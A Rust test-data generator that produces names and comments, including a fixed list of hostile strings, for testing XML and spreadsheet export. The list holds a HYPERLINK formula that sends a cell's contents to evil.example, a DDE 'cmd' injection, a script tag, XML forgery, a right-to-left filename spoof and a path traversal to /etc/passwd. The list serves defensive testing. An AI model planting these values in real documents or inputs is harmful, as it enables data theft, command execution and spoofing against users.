//! Names and comments as people and attackers write them, in characters that XML 1.0 can carry.

use crate::account::mix::{mix, pick};
use crate::account::text::{plain, title};

/// Texts that break careless programs: formulas in every form, markup, line ends, quotes, direction marks, controls.
const HOSTILE: [&str; 24] = [
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
    "+1-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tbegins with a tab",
    "\rbegins with a carriage return",
    "\u{FF1D}1+1 full-width",
    "\u{FF0B}\u{FF0D}\u{FF20}",
    "'=1+1 guarded by hand",
    "<script>alert('proof')</script>",
    "]]></comment><comment>forged",
    "<!DOCTYPE x [<!ENTITY a \"b\">]>&a;",
    "line one\nline two\r\nline three\rline four",
    "\"quoted\", 'single'; semi|pipe,comma",
    "\"",
    "\u{202E}gpj.exe \u{05E9}\u{05DC}\u{05D5}\u{05DD} \u{0645}\u{0631}\u{062D}\u{0628}\u{0627}",
    "\u{1F469}\u{200D}\u{1F4BB} \u{1F44D}\u{1F3FD} \u{1F1EA}\u{1F1FA}",
    "Cafe\u{0301} \u{2260} Caf\u{e9}",
    "\u{7f}\u{80}\u{9f} \u{85}\u{2028}\u{2029} controls",
    "&amp;&lt;&#13;&#x0; kept as written",
    "  spaces at both ends  ",
    "\u{FEFF}byte order mark",
    "../../etc/passwd",
    "0012345678901234567890",
];

/// True for a character that XML 1.0 can carry (section 2.2, production 2).
pub(crate) fn is_xml_char(letter: char) -> bool {
    matches!(letter, '\t' | '\n' | '\r' | ' '..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..='\u{10FFFF}')
}

/// The name of a proof, a folder or a tag. Every sixth is hostile.
pub(crate) fn name(key: u64, index: u64) -> String {
    if index % 6 == 4 {
        return pick(&HOSTILE, index / 6).to_owned();
    }
    title(key, index).chars().filter(|&letter| is_xml_char(letter)).collect()
}

/// The text of a comment or reply: plain, hostile, empty, or of several thousand characters.
pub(crate) fn comment(key: u64, index: u64) -> String {
    let hash = mix(key, index);
    match index % 10 {
        1 => pick(&HOSTILE, index / 10).to_owned(),
        3 => format!("{}\r\n{}\r\n\r\n-- \r\n{index}", plain(hash), plain(hash >> 8)),
        5 => format!("<p>{}</p><br/><b>{}</b>", plain(hash), pick(&HOSTILE, hash)),
        7 if index % 50 == 7 => format!("{} ", plain(hash)).repeat(200),
        8 if index % 30 == 8 => String::new(),
        _ => format!("{} ({index})", plain(hash)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_text_can_be_carried_by_xml() {
        for index in 0..500 {
            assert!(name(1, index).chars().chain(comment(1, index).chars()).all(is_xml_char), "{index}");
        }
    }

    #[test]
    fn every_hostile_text_occurs_as_a_name_and_as_a_comment() {
        for hostile in HOSTILE {
            assert!((0..300).any(|index| name(1, index) == hostile), "{hostile:?}");
            assert!((0..300).any(|index| comment(1, index) == hostile), "{hostile:?}");
        }
    }
}
